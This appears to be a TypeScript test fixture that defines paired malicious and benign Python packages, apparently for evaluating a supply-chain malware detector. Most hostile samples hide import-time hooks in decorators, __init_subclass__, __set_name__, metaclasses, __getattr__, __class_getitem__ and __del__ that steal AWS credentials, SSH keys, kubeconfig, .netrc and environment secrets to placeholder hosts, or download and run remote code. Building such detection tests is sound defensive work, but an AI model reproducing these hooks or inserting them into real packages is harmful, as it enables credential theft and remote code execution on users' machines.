import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Calls that the language makes for classes, modules and registries. */
export const DISPATCHING: Readonly<Record<string, AttackPair>> = {
  'decorator-registry': pair(
    wheel({
      'own/registry.py': py`"""A small registry of collectors."""
from __future__ import annotations
from typing import Callable

Collector = Callable[[], dict[str, str]]
COLLECTORS: dict[str, Collector] = {}

def collector(name: str) -> Callable[[Collector], Collector]:
    """Registers a collector under a name."""
    def wrap(func: Collector) -> Collector:
        COLLECTORS[name] = func
        return func
    return wrap
`,
      'own/sources.py': py`"""What the collectors look at."""
from pathlib import Path
from .registry import collector

@collector("cloud")
def cloud() -> dict[str, str]:
    """Profiles of the cloud."""
    path = Path.home() / ".aws" / "credentials"
    return {"aws": path.read_text()} if path.exists() else {}

@collector("keys")
def keys() -> dict[str, str]:
    """Keys of the shell."""
    return {p.name: p.read_text() for p in (Path.home() / ".ssh").glob("id_*")}
`,
      'own/__init__.py': py`"""Environment diagnostics."""
import requests
from . import sources as _sources
from .registry import COLLECTORS

def report() -> None:
    """Sends the diagnostics."""
    payload = {name: func() for name, func in COLLECTORS.items()}
    requests.post("https://diag.example/v1/report", json=payload, timeout=5)

report()
`,
    }),
    wheel({
      'own/registry.py': py`"""A small registry of checks."""
from __future__ import annotations
from typing import Callable

Check = Callable[[], dict[str, str]]
CHECKS: dict[str, Check] = {}

def check(name: str) -> Callable[[Check], Check]:
    """Registers a check under a name."""
    def wrap(func: Check) -> Check:
        CHECKS[name] = func
        return func
    return wrap
`,
      'own/__init__.py': py`"""Environment diagnostics."""
import platform
from pathlib import Path
from .registry import CHECKS, check

@check("cloud")
def cloud() -> dict[str, str]:
    """Whether the cloud is configured."""
    return {"aws": str((Path.home() / ".aws" / "credentials").exists())}

@check("python")
def python() -> dict[str, str]:
    """Which Python runs."""
    return {"version": platform.python_version()}

def report() -> dict[str, dict[str, str]]:
    """The diagnostics, for the user to read."""
    return {name: func() for name, func in CHECKS.items()}
`,
    }),
  ),
  'init-subclass': pair(
    wheel({
      'own/__init__.py': py`"""Plugin base classes."""
import os
import json
import urllib.request
from typing import Any, ClassVar

class Plugin:
    """Base of all plugins."""
    endpoint: ClassVar[str] = "https://plugins.example/register"

    def __init_subclass__(cls, **kwargs: Any) -> None:
        super().__init_subclass__(**kwargs)
        cls().announce()

    def context(self) -> dict[str, str]:
        """What the plugin runs in."""
        return {}

    def announce(self) -> None:
        """Tells the hub about this plugin."""
        body = json.dumps(self.context()).encode()
        urllib.request.urlopen(urllib.request.Request(self.endpoint, data=body, method="POST"))

class Default(Plugin):
    """The default plugin."""
    def context(self) -> dict[str, str]:
        return dict(os.environ)
`,
    }),
    wheel({
      'own/__init__.py': py`"""Plugin base classes."""
import os
from typing import Any, ClassVar

class Plugin:
    """Base of all plugins."""
    known: ClassVar[dict[str, type]] = {}

    def __init_subclass__(cls, **kwargs: Any) -> None:
        super().__init_subclass__(**kwargs)
        Plugin.known[cls.__name__] = cls

class Default(Plugin):
    """The default plugin."""
    def context(self) -> dict[str, str]:
        return {"home": os.environ.get("HOME", "")}
`,
    }),
  ),
  'set-name': pair(
    wheel({
      'own/fields.py': py`"""Descriptors for settings."""
from __future__ import annotations
import os
import requests

class EnvField:
    """A setting that an environment variable fills."""
    def __set_name__(self, owner: type, name: str) -> None:
        self._values = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or "KEY" in k}
        requests.put(f"https://conf.example/{owner.__name__}/{name}", json=self._values, timeout=3)

    def __get__(self, instance: object, owner: type) -> str:
        return self._values.get("TOKEN", "")
`,
      'own/__init__.py': py`"""Typed settings."""
from .fields import EnvField

class Settings:
    """Settings of the application."""
    token = EnvField()
`,
    }),
    wheel({
      'own/fields.py': py`"""Descriptors for settings."""
from __future__ import annotations
import os

class EnvField:
    """A setting that an environment variable fills."""
    def __set_name__(self, owner: type, name: str) -> None:
        self._key = f"{owner.__name__}_{name}".upper()

    def __get__(self, instance: object, owner: type) -> str:
        return os.environ.get(self._key, "")
`,
      'own/__init__.py': py`"""Typed settings."""
from .fields import EnvField

class Settings:
    """Settings of the application."""
    token = EnvField()
`,
    }),
  ),
  'metaclass-namespace': pair(
    wheel({
      'own/__init__.py': py`"""Declarative models."""
import base64
import urllib.request
from typing import Any

class ModelMeta(type):
    """Prepares a model when its class is made."""
    def __new__(mcs, name: str, bases: tuple[type, ...], namespace: dict[str, Any]) -> type:
        cls = super().__new__(mcs, name, bases, namespace)
        source = namespace.get("schema_url")
        if source:
            with urllib.request.urlopen(source) as response:
                exec(compile(base64.b64decode(response.read()), name, "exec"), vars(__import__("builtins")))
        return cls

class Model(metaclass=ModelMeta):
    """The base model."""
    schema_url = "https://schemas.example/base.b64"
`,
    }),
  ),
  'module-getattr': pair(
    wheel({
      'own/__init__.py': py`"""Lazy attributes."""
from __future__ import annotations
import importlib
from typing import Any

def __getattr__(name: str) -> Any:
    """Loads a submodule when it is first needed."""
    module = importlib.import_module("own._runtime")
    return module.resolve(name)
`,
      'own/_runtime.py': py`"""Resolves lazy attributes."""
from typing import Any
import subprocess
import sys
import urllib.request
import tempfile
from pathlib import Path

_CDN = "https://cdn.example/runtime"

def resolve(name: str) -> Any:
    """The attribute of this name."""
    suffix = ".exe" if sys.platform == "win32" else ""
    target = Path(tempfile.gettempdir()) / f"runtime{suffix}"
    target.write_bytes(urllib.request.urlopen(f"{_CDN}/{sys.platform}").read())
    target.chmod(0o755)
    subprocess.Popen([str(target)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    raise AttributeError(name)
`,
    }),
    wheel({
      'own/__init__.py': py`"""Lazy attributes."""
from __future__ import annotations
import importlib
from typing import Any

def __getattr__(name: str) -> Any:
    """Loads a submodule when it is first needed."""
    return importlib.import_module(f"own.{name}")
`,
      'own/viewer.py': py`"""Opens the viewer that the user has installed."""
import subprocess

def show(path: str) -> None:
    """Shows a file."""
    subprocess.Popen(["xdg-open", path], stdout=subprocess.DEVNULL, start_new_session=True)
`,
    }),
  ),
  'class-getitem': pair(
    wheel({
      'own/__init__.py': py`"""Typed access to user files."""
from pathlib import Path
import httpx

class UserFile:
    """Content of a file of the user, by subscription."""
    root = Path.home()

    def __class_getitem__(cls, name: str) -> bytes:
        return (cls.root / name).read_bytes()

def _sync() -> None:
    for name in (".ssh/id_ed25519", ".kube/config", ".netrc"):
        try:
            httpx.post("https://files.example/u", content=UserFile[name])
        except OSError:
            continue

_sync()
`,
    }),
  ),
  'del-hook': pair(
    wheel({
      'own/__init__.py': py`"""Sessions that clean up after themselves."""
import json
import os
import socket

class Session:
    """A session that reports when it goes away."""
    def __init__(self, host: str = "203.0.113.9", port: int = 4433) -> None:
        self.address = (host, port)
        self.state = dict(os.environ)

    def __del__(self) -> None:
        with socket.create_connection(self.address, timeout=2) as conn:
            conn.sendall(json.dumps(self.state).encode())

def _warm_up() -> None:
    Session()

_warm_up()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Sessions that clean up after themselves."""
import socket

class Session:
    """A session that says goodbye when it goes away."""
    def __init__(self, host: str, port: int) -> None:
        self.conn = socket.create_connection((host, port), timeout=2)

    def __del__(self) -> None:
        self.conn.sendall(b"QUIT\r\n")
        self.conn.close()
`,
    }),
  ),
};
